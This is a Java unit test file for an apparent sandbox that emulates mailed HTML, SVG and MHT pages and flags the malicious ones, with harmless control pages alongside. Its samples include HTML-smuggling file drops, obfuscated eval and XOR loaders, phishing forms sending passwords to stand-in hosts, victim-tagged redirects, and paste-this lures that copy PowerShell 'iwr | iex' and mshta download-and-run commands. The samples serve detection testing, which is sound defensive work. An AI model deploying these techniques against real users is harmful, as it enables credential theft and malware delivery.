package dev.peekaboo.emulation.script.page;

import static org.assertj.core.api.Assertions.assertThat;

import dev.peekaboo.emulation.Emulated;
import dev.peekaboo.emulation.Language;
import dev.peekaboo.emulation.Traces;
import dev.peekaboo.report.EmulationReport;
import dev.peekaboo.report.SandboxReport.Completeness;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.stream.Stream;

/** Harmless pages in the styles of mailed HTML, and what they do. */
class PageTest {
    private static final String ZIP = base64("PK\u0003\u0004 not really an archive");
    private static final String PROGRAM = base64("MZ not really a program");

    /**
     * A sample.
     *
     * @param expected findings
     */
    record Sample(String name, Language language, String text, String... expected) {
        Sample(String name, String text, String... expected) {
            this(name, Language.HTML, text, expected);
        }

        @Override
        public String toString() {
            return name;
        }
    }

    static Stream<Sample> bad_pages_show_what_they_do() {
        return Stream.of(smuggled(), phishing(), leading(), pictures()).flatMap(part -> part);
    }

    private static String base64(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.ISO_8859_1));
    }

    private static Stream<Sample> smuggled() {
        return Stream.of(
                new Sample(
                        "blob and click",
                        """
                        <html><body><script>
                        var bytes = atob('%s'), array = new Uint8Array(bytes.length);
                        for (var i = 0; i < bytes.length; i++) array[i] = bytes.charCodeAt(i);
                        var blob = new Blob([array.buffer], {type: 'application/zip'});
                        var a = document.createElement('a');
                        document.body.appendChild(a);
                        a.href = window.URL.createObjectURL(blob); a.download = 'invoice.zip'; a.click();
                        </script></body></html>"""
                                .formatted(ZIP),
                        "page_drops_file"),
                new Sample(
                        "blob after load with arrow functions",
                        """
                        <script>
                        window.addEventListener('load', () => {
                          const data = `%s`;
                          const bytes = Uint8Array.from(atob(data), c => c.charCodeAt(0));
                          const link = document.createElement('a');
                          link.href = URL.createObjectURL(new Blob([bytes], {type: 'octet/stream'}));
                          link.download = 'report.iso';
                          setTimeout(() => link.click(), 3000);
                        });
                        </script>"""
                                .formatted(PROGRAM),
                        "page_drops_file"),
                new Sample(
                        "data address in the page",
                        "<a id='d' download='scan.zip' href='data:application/zip;base64,%s'></a><script>document.getElementById('d').click()</script>"
                                .formatted(ZIP),
                        "page_drops_file"),
                new Sample(
                        "data address as location",
                        "<script>location.href = 'data:application/octet-stream;base64,' + '%s';</script>"
                                .formatted(ZIP),
                        "page_drops_file"),
                new Sample(
                        "old browser's way",
                        """
                        <script>
                        var b = new Blob([atob('%s')], {type: 'application/zip'});
                        if (navigator.userAgent.indexOf('Trident') > 0) window.navigator.msSaveOrOpenBlob(b, 'a.zip');
                        </script>"""
                                .formatted(ZIP),
                        "page_drops_file"),
                new Sample(
                        "fetch of a data address",
                        """
                        <body onload="go()"><script>
                        function go() {
                          fetch('data:application/zip;base64,%s').then(r => r.blob()).then(b => {
                            var a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = 'x.zip';
                            a.dispatchEvent(new MouseEvent('click', {bubbles: true})); a.click(); });
                        }
                        </script></body>"""
                                .formatted(ZIP),
                        "page_drops_file"),
                new Sample(
                        "file reader",
                        """
                        <script>
                        var r = new FileReader();
                        r.onload = function () { var a = document.createElement('a'); a.download = 'x.exe'; a.href = r.result; a.click(); };
                        r.readAsDataURL(new Blob(['MZ0123456789']));
                        </script>""",
                        "page_drops_file"),
                new Sample(
                        "event on a picture that is missing",
                        "<img src='nowhere.png' onerror=\"var a=document.createElement('a');a.href='data:application/x-msdownload;base64,%s';a.download='a.scr';a.click()\">"
                                .formatted(PROGRAM),
                        "page_drops_file"),
                new Sample(
                        "reversed, in pieces, in eval",
                        """
                        <script>var p = ['kcilc.a', '()'];
                        var code = "var a=document.createElement('a');a.href='data:application/zip;base64,%s';a.download='i.zip';" + p[0].split('').reverse().join('') + p[1];
                        eval(unescape(escape(code)));</script>"""
                                .formatted(ZIP),
                        "page_drops_file"),
                new Sample(
                        "written in two layers",
                        "<script>document.write(unescape('%3Cscript%3Edocument.write(atob(%22"
                                + base64(
                                        "<a id=q download=b.js href='data:text/plain;base64,"
                                                + base64("new ActiveXObject('WScript.Shell')")
                                                + "'>x</a><script>q=document.getElementById('q');q.click()</script>")
                                + "%22))%3C/script%3E'))</script>",
                        "page_drops_file"),
                new Sample(
                        "button to press",
                        """
                        <p>Your document is ready.</p><button id="b">Download</button>
                        <script>document.querySelector('#b').addEventListener('click', function () {
                          var a = document.createElement('a'); a.href = 'data:application/octet-stream;base64,%s';
                          a.download = 'doc.pdf.exe'; a.click(); });</script>"""
                                .formatted(PROGRAM),
                        "page_hands_out_program"),
                new Sample(
                        "frame with its own source",
                        "<iframe srcdoc=\"<script>var a=document.createElement('a');a.href='data:a/zip;base64,%s';a.download='a.zip';a.click()</script>\"></iframe>"
                                .formatted(ZIP),
                        "page_drops_file"),
                new Sample(
                        "frame from a blob",
                        """
                        <iframe id="f"></iframe><script>
                        var page = "<scr" + "ipt>var a=document.createElement('a');a.href='data:a/zip;base64,%s';a.download='a.zip';a.click()</scr" + "ipt>";
                        document.getElementById('f').src = URL.createObjectURL(new Blob([page], {type: 'text/html'}));
                        </script>"""
                                .formatted(ZIP),
                        "page_drops_file"));
    }

    private static Stream<Sample> phishing() {
        return Stream.of(
                new Sample(
                        "form to a stranger",
                        "<h1>Sign in</h1><form method=post action='https://collect.example/next.php'><input name=user value='someone@victim.example'><input type=password name=p><input type=submit></form>",
                        "page_credential_form",
                        "page_names_victim"),
                new Sample(
                        "form in a written page",
                        "<script>document.write(atob('%s'))</script>"
                                .formatted(
                                        base64(
                                                "<form action='https://collect.example/p'><input type='password' name='p'><button>Next</button></form>")),
                        "page_credential_form",
                        "page_hidden_credential_form"),
                new Sample(
                        "form sent by script",
                        """
                        <form id="f"><input id="u" type="email"><input id="p" type="password"><button type="submit">Sign in</button></form>
                        <script>document.getElementById('f').addEventListener('submit', function (e) {
                          e.preventDefault();
                          fetch('https://collect.example/log', {method: 'POST', body: JSON.stringify({u: u.value, p: document.getElementById('p').value})});
                        });
                        var u = document.getElementById('u');</script>""",
                        "page_sends_credentials"),
                new Sample(
                        "form sent with jQuery",
                        """
                        <script src="https://code.jquery.com/jquery-3.6.0.min.js"></script>
                        <form><input id="ai"><input id="pr" type="password"><button id="go">Next</button></form>
                        <script>$(document).ready(function () { $('#go').click(function (e) { e.preventDefault();
                          $.ajax({url: 'https://collect.example/x.php', type: 'POST', data: {ai: $('#ai').val(), pr: $('#pr').val()}, success: function (r) { location = 'https://office.example/'; }}); }); });</script>""",
                        "page_sends_credentials"),
                new Sample(
                        "form sent to a messenger, encoded",
                        """
                        <input type="password" id="p"><button onclick="send()">OK</button>
                        <script>function send() { var x = new XMLHttpRequest();
                          x.open('GET', 'https://api.messenger.example/bot1/sendMessage?text=' + btoa(document.getElementById('p').value)); x.send(); }</script>""",
                        "page_sends_credentials"),
                new Sample(
                        "action set by script",
                        """
                        <form id="f" method="post"><input type="password" name="p"><input type="submit"></form>
                        <script>document.forms[0].action = 'https:' + '//' + ['collect', 'example'].join('.') + '/p';</script>""",
                        "page_credential_form",
                        "page_hidden_credential_form"));
    }

    private static Stream<Sample> leading() {
        return Stream.of(
                new Sample(
                        "hidden address for one recipient",
                        "<script>var m='someone@victim.example';location.href=atob('%s')+'#'+m;</script>"
                                .formatted(base64("https://login.collect.example/o")),
                        "page_opens_hidden_address",
                        "page_opens_address_for_victim"),
                new Sample(
                        "victim in base64",
                        "<body onload=\"window.location.replace(String.fromCharCode(104,116,116,112,115,58,47,47)+'x.exa'+'mple/?e=%s')\"></body>"
                                .formatted(base64("someone@victim.example")),
                        "page_opens_hidden_address",
                        "page_opens_address_for_victim"),
                new Sample(
                        "search protocol",
                        "<script>location.href='search-ms:query=invoice&crumb=location:%5C%5Cfiles.example%5Cshare'</script>",
                        "page_opens_windows_address"),
                new Sample(
                        "share",
                        "<meta http-equiv='refresh' content='0; url=file://files.example/share/a'>",
                        "page_opens_share"),
                new Sample(
                        "command to paste",
                        """
                        <p>Verify you are human</p><button onclick="copy()">I am not a robot</button>
                        <script>function copy() { navigator.clipboard.writeText('powershell -w hidden -c "iwr http://files.example/a | iex"'); }</script>""",
                        "page_copies_command"),
                new Sample(
                        "command to paste, old way",
                        """
                        <div class="box" onclick="go()">Check</div>
                        <script>function go() { var t = document.createElement('textarea'); t.value = 'mshta https://files.example/a.hta'; document.body.appendChild(t); t.select(); document.execCommand('copy'); }</script>""",
                        "page_copies_command"));
    }

    private static Stream<Sample> pictures() {
        return Stream.of(
                new Sample(
                        "picture with script that leads away",
                        Language.SVG,
                        "<svg xmlns='http://www.w3.org/2000/svg'><script type='application/ecmascript'><![CDATA[ window.location.href = atob('%s'); ]]></script></svg>"
                                .formatted(base64("https://login.collect.example/")),
                        "picture_leads_away"),
                new Sample(
                        "picture with onload",
                        Language.SVG,
                        "<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload=\"location='https://collect.example/'\"><rect/></svg>",
                        "picture_leads_away"),
                new Sample(
                        "picture that hands out a file",
                        Language.SVG,
                        """
                        <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
                        <a id="l" xlink:href="data:application/zip;base64,%s" download="a.zip"><text>.</text></a>
                        <script>document.getElementById('l').dispatchEvent(new Event('click'));
                        var a = document.createElementNS('http://www.w3.org/1999/xhtml', 'a'); a.href = document.getElementById('l').getAttribute('xlink:href'); a.download = 'a.zip'; a.click();</script></svg>"""
                                .formatted(ZIP),
                        "page_drops_file"),
                new Sample(
                        "xor in a picture",
                        Language.SVG,
                        """
                        <svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[
                        const k = 'key', d = %s; let s = '';
                        for (let i = 0; i < d.length; i++) s += String.fromCharCode(d[i] ^ k.charCodeAt(i %% k.length));
                        (new Function(s))();
                        ]]></script></svg>"""
                                .formatted(
                                        xored(
                                                "window.location.assign('https://collect.example/p')",
                                                "key")),
                        "picture_leads_away"),
                new Sample(
                        "saved page",
                        Language.MHT,
                        """
                        MIME-Version: 1.0
                        Content-Type: multipart/related; boundary="b1"

                        --b1
                        Content-Type: text/html; charset="utf-8"
                        Content-Transfer-Encoding: quoted-printable

                        <html><body><form action=3D"https://collect.example/p"><input type=3D"pass=
                        word" name=3D"p"></form></body></html>
                        --b1--
                        """,
                        "page_credential_form"));
    }

    private static String xored(String text, String key) {
        StringBuilder out = new StringBuilder("[");
        for (int i = 0; i < text.length(); i++)
            out.append(i == 0 ? "" : ",").append(text.charAt(i) ^ key.charAt(i % key.length()));
        return out.append("]").toString();
    }

    @ParameterizedTest
    @MethodSource
    void bad_pages_show_what_they_do(Sample sample) {
        EmulationReport report = Emulated.run(sample.language(), sample.text(), "page.html");

        assertThat(Emulated.ids(report)).as(Emulated.told(report)).contains(sample.expected());
        assertThat(Traces.isBad(report.findings())).as(Emulated.told(report)).isTrue();
    }

    static Stream<Sample> harmless_pages_are_complete_and_not_bad() {
        return Stream.of(
                new Sample("empty", "<html></html>"),
                new Sample(
                        "text",
                        "<p>Hello <b>world</b>, see <a href='https://www.example.com/'>us</a></p>"),
                new Sample(
                        "signature",
                        "<html><head><style>p{color:red}</style></head><body><img src='https://www.example.com/logo.png'><p>Kind regards</p></body></html>"),
                new Sample(
                        "clock",
                        "<p id=c></p><script>setInterval(function () { document.getElementById('c').textContent = new Date().toString(); }, 1000)</script>"),
                new Sample(
                        "menu",
                        "<ul class=m><li>a</li></ul><script>document.querySelectorAll('.m li').forEach(function (li) { li.onclick = function () { this.classList.toggle('open'); }; });</script>"),
                new Sample(
                        "table sorted by script",
                        "<table><tr><td>2</td></tr><tr><td>1</td></tr></table><script>var t=document.querySelector('table tbody');Array.from(t.children).sort((a,b)=>a.innerText-b.innerText).forEach(r=>t.appendChild(r));</script>"),
                new Sample(
                        "script that was not mailed along",
                        "<script src='js/jquery.js'></script><script>$(function () { $('p').hide(); });</script>"),
                new Sample(
                        "report with a picture to save",
                        "<canvas id=c></canvas><a id=l download='chart.png'>save</a><script>var g=document.getElementById('c').getContext('2d');g.fillRect(0,0,1,1);document.getElementById('l').href=document.getElementById('c').toDataURL();</script>"),
                new Sample(
                        "table to save",
                        "<button onclick='save()'>Export</button><script>function save(){var a=document.createElement('a');a.href=URL.createObjectURL(new Blob(['a;b\\n1;2'],{type:'text/csv'}));a.download='table.csv';a.click();}</script>"),
                new Sample(
                        "form of a shop's search",
                        "<form action='https://www.example.com/search'><input name=q><button>Go</button></form>"),
                new Sample(
                        "saved page with a login",
                        "<!-- saved from url=(0027)https://forum.example/topic -->\n<html><body><form action='https://forum.example/login' method=post><input name=user><input type=password name=pass><input type=submit></form><p>Text</p></body></html>"),
                new Sample(
                        "envelope of a mail service",
                        "<form action='https://res.cisco.com:443/envelopeopener' method=post><input type=password name=p><input type=submit value=Open></form>"),
                new Sample(
                        "documentation to copy",
                        "<pre>powershell -c \"irm https://install.example/a.ps1 | iex\"</pre><button onclick=\"navigator.clipboard.writeText(document.querySelector('pre').innerText)\">copy</button>"),
                new Sample(
                        "leads to its new place",
                        "<meta http-equiv=refresh content='0;url=https://docs.example/latest/'><a href='https://docs.example/latest/'>here</a>"),
                new Sample(
                        "leads to a page beside it",
                        "<script>window.location.replace('index.html')</script>"),
                new Sample(
                        "picture",
                        Language.SVG,
                        "<?xml version='1.0'?><!DOCTYPE svg><svg xmlns='http://www.w3.org/2000/svg' width='10' height='10'><style>.a{fill:red}</style><path class='a' d='M0 0'/><a href='https://www.example.com/'><text>x</text></a></svg>"),
                new Sample(
                        "picture that moves",
                        Language.SVG,
                        "<svg xmlns='http://www.w3.org/2000/svg'><circle id='c' r='1'/><script>var c = document.getElementById('c'); var n = 0; setInterval(function () { c.setAttribute('r', n++); }, 100);</script></svg>"),
                new Sample(
                        "newsletter",
                        "<table><tr><td><a href='mailto:news@example.com'>mail</a><img src='https://t.example/open.gif' onerror='this.style.display=\"none\"'></td></tr></table>"));
    }

    @ParameterizedTest
    @MethodSource
    void harmless_pages_are_complete_and_not_bad(Sample sample) {
        EmulationReport report = Emulated.run(sample.language(), sample.text(), "page.html");

        assertThat(Traces.isBad(report.findings())).as(Emulated.told(report)).isFalse();
        assertThat(report.completeness())
                .as(Emulated.told(report))
                .isEqualTo(Completeness.COMPLETE);
    }

    static Stream<Sample> what_is_missing_is_said() {
        return Stream.of(
                new Sample(
                        "script from elsewhere",
                        "<script src='https://files.example/x.js'></script>"),
                new Sample("not JavaScript", "<script>class { broken</script>"),
                new Sample(
                        "web assembly",
                        "<script>WebAssembly.instantiate(new Uint8Array([0]))</script>"),
                new Sample(
                        "web assembly, caught",
                        "<script>try { window.WebAssembly.compile() } catch (e) {}</script>"),
                new Sample(
                        "file system",
                        "<script>try { window.showSaveFilePicker() } catch (e) {}</script>"),
                new Sample(
                        "promise that fails",
                        "<script>Promise.resolve().then(function () { document.body.nope(); })</script>"),
                new Sample(
                        "handler that fails", "<button onclick='document.body.nope()'>a</button>"),
                new Sample("endless", "<script>for (;;);</script>"),
                new Sample(
                        "endless timers",
                        "<script>function f() { setTimeout(f, 0); } f();</script>"));
    }

    @ParameterizedTest
    @MethodSource
    void what_is_missing_is_said(Sample sample) {
        EmulationReport report = Emulated.run(sample.language(), sample.text(), "page.html");

        assertThat(report.completeness())
                .as(Emulated.told(report))
                .isNotEqualTo(Completeness.COMPLETE);
    }

    @Test
    void a_file_a_page_hands_out_is_a_child_of_its_own() {
        EmulationReport report =
                Emulated.run(
                        Language.HTML,
                        "<script>var a=document.createElement('a');a.href='data:a/b;base64,%s';a.download='in.zip';a.click()</script>"
                                .formatted(ZIP),
                        "page.html");

        assertThat(report.children()).hasSize(1);
        assertThat(report.children().getFirst().name()).isEqualTo("in.zip");
        assertThat(report.children().getFirst().content().sizeBytes()).isEqualTo(26);
    }
}
